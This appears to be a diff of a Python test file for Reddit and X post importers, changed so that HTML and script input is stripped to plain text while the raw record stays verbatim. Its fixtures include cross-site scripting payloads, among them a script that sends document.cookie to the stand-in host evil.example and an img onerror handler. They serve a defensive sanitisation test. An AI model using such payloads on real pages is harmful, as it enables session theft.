@@ -209,17 +209,21 @@ def test_pure_emoji_and_zero_width_joiners_are_kept() -> None:
     assert [p.text for p in posts] == ["💄💋✨", "👩\u200d👩\u200d👧\u200d👦", "\u200d\u200d\u200b"]
 
 
-def test_html_and_script_are_stored_verbatim() -> None:
+def test_html_and_script_become_plain_text_and_the_raw_record_is_verbatim() -> None:
     posts, rejected = split(run(RedditImporter(), BAD / "html_script.ndjson"))
     assert not rejected
-    assert posts[0].text == '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
-    assert posts[1].text == "<b>fett</b> &amp; <img src=x onerror=alert(1)> L'Oréal"
+    assert posts[0].text == ""  # script content is never text
+    assert "<script>fetch(" in orjson.loads(posts[0].raw)["body"]
+    assert posts[1].text == "fett & L'Oréal"
+    assert orjson.loads(posts[1].raw)["body"] == (
+        "<b>fett</b> &amp; <img src=x onerror=alert(1)> L'Oréal"
+    )
     line = (
-        b'{"id": "h1", "text": "<script>alert(1)</script>", "created_at": "2024-03-01T10:00:00Z"}'
+        b'{"id": "h1", "text": "<script>alert(1)</script>ok", "created_at": "2024-03-01T10:00:00Z"}'
     )
     (tweet,) = XImporter().read(io.BytesIO(line + b"\n"), ImportContext(source="t.jsonl"))
-    assert isinstance(tweet, Post) and tweet.text == "<script>alert(1)</script>"
-    assert orjson.loads(tweet.raw)["text"] == "<script>alert(1)</script>"
+    assert isinstance(tweet, Post) and tweet.text == "ok"
+    assert orjson.loads(tweet.raw)["text"] == "<script>alert(1)</script>ok"
 
 
 def test_unknown_format_lists_known_ones() -> None:
